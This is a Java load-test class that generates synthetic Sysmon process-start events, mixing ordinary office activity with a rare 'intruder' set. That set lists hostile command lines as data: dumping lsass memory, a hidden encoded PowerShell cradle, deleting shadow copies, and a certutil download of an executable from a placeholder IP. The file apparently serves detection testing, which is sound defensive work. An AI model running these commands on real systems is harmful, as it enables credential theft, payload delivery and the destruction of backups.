package io.gabion.loadtests;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;

/** Starts of processes as Sysmon tells them, one JSON object of about 1.1 KB each: an office's day with a few of an intruder's. */
final class SysmonEvents {
    private static final String[][] EVERYDAY = {
        {
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            "services.exe"
        },
        {"C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "cmd.exe"
        },
        {
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=de --field-trial-handle=%d",
            "chrome.exe"
        },
        {"C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe Install $(Arg0)", "svchost.exe"},
        {
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\system32\\cmd.exe /c \"C:\\Scripts\\backup%d.cmd\"",
            "explorer.exe"
        },
        {
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -NoProfile -File C:\\Scripts\\report%d.ps1",
            "svchost.exe"
        },
        {
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess %d",
            "explorer.exe"
        },
        {
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\joe\\Documents\\offer%d.docx\"",
            "explorer.exe"
        },
        {
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            "svchost.exe"
        },
        {"C:\\Windows\\System32\\net.exe", "net use Z: \\\\files\\share%d", "cmd.exe"},
        {
            "C:\\Program Files\\Git\\bin\\git.exe",
            "git.exe -c diff.mnemonicprefix=false fetch origin pull/%d/head",
            "devenv.exe"
        },
        {
            "C:\\Windows\\System32\\reg.exe",
            "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run%d",
            "cmd.exe"
        },
    };

    private static final String[][] INTRUDER = {
        {
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump %d C:\\Temp\\lsass.dmp full",
            "cmd.exe"
        },
        {
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA%d",
            "WINWORD.EXE"
        },
        {"C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet", "cmd.exe"},
        {
            "C:\\Windows\\System32\\certutil.exe",
            "certutil -urlcache -split -f http://203.0.113.%d/a.exe C:\\Users\\Public\\a.exe",
            "cmd.exe"
        },
    };

    /** One in a hundred is the intruder's. */
    static List<byte[]> make(int count, long seed) {
        var random = new Random(seed);
        var events = new ArrayList<byte[]>(count);
        for (int i = 0; i < count; i++) {
            events.add(event(random, i).getBytes(StandardCharsets.UTF_8));
        }
        return events;
    }

    private static String event(Random random, int number) {
        var kinds = random.nextInt(100) == 0 ? INTRUDER : EVERYDAY;
        var kind = kinds[random.nextInt(kinds.length)];
        var image = kind[0];
        var name = image.substring(image.lastIndexOf('\\') + 1);
        var json = JsonNodeFactory.instance.objectNode();
        json.put("Channel", "Microsoft-Windows-Sysmon/Operational").put("EventID", 1);
        json.put("Provider_Name", "Microsoft-Windows-Sysmon")
                .put("Computer", "WS" + random.nextInt(200) + ".corp.example");
        var time = Instant.EPOCH.plusSeconds(1_780_000_000L + number / 20).toString();
        json.put("TimeCreated", time).put("UtcTime", time.replace('T', ' ').replace("Z", ".123"));
        json.put("ProcessGuid", guid(random)).put("ProcessId", 1_000 + random.nextInt(20_000));
        json.put("Image", image).put("FileVersion", "10.0.19041.1 (WinBuild.160101.0800)");
        json.put("Description", "Host Process").put("Product", "Microsoft® Windows® Operating System");
        json.put("Company", "Microsoft Corporation").put("OriginalFileName", name);
        json.put("CommandLine", kind[1].formatted(random.nextInt(200)));
        json.put("CurrentDirectory", "C:\\Users\\joe\\").put("User", "CORP\\joe" + random.nextInt(200));
        json.put("LogonGuid", guid(random)).put("LogonId", "0x3e" + random.nextInt(1_000));
        json.put("TerminalSessionId", 1).put("IntegrityLevel", "Medium");
        json.put("Hashes", "MD5=" + hex(random, 16) + ",SHA256=" + hex(random, 32) + ",IMPHASH=" + hex(random, 16));
        json.put("ParentProcessGuid", guid(random)).put("ParentProcessId", 1_000 + random.nextInt(20_000));
        json.put("ParentImage", "C:\\Windows\\System32\\" + kind[2]);
        json.put("ParentCommandLine", "C:\\Windows\\System32\\" + kind[2] + " -k netsvcs");
        return json.toString();
    }

    private static String guid(Random random) {
        return "{" + hex(random, 4) + "-" + hex(random, 2) + "-" + hex(random, 2) + "-0000-" + hex(random, 6) + "}";
    }

    private static String hex(Random random, int bytes) {
        var value = new byte[bytes];
        random.nextBytes(value);
        return HexFormat.of().withUpperCase().formatHex(value);
    }

    private SysmonEvents() {}
}
